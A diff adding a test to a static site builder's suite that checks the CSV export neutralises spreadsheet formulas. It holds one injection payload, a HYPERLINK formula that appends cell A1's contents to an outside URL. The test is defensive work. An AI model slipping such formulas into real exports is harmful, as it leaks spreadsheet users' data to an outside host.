@@ -62,3 +62,18 @@ def test_a_page_of_one_heading_repeated_is_built_without_a_hang(tmp_path):
     assert run.returncode == 0, run.stderr
     page = (root / "site" / "about.html").read_text()
     assert 'id="background"' in page and 'id="background-1"' in page and 'id="background-29999"' in page
+
+
+def test_a_statement_a_spreadsheet_would_run_is_exported_as_text(tmp_path):
+    """facts.csv opened in a spreadsheet: '=HYPERLINK(…)' would be a live formula; an apostrophe makes it text."""
+    import csv
+    root = _project(tmp_path)
+    card = root / "content" / "facts" / "ceasefire.yml"
+    formula = '=HYPERLINK("https://example.org/?"&A1,"Details")'
+    card.write_text(card.read_text().replace("statement: Smith said a cease-fire was agreed, starting on Sunday.",
+                                             f"statement: '{formula}'"))
+    assert run_dossier(root, "build").returncode == 0
+    with (root / "site" / "exports" / "facts.csv").open(newline="") as file:
+        statements = {row["fact"]: row["statement"] for row in csv.DictReader(file)}
+    assert statements["ceasefire"] == "'" + formula
+    assert not any(s.startswith(("=", "+", "-", "@")) for s in statements.values())
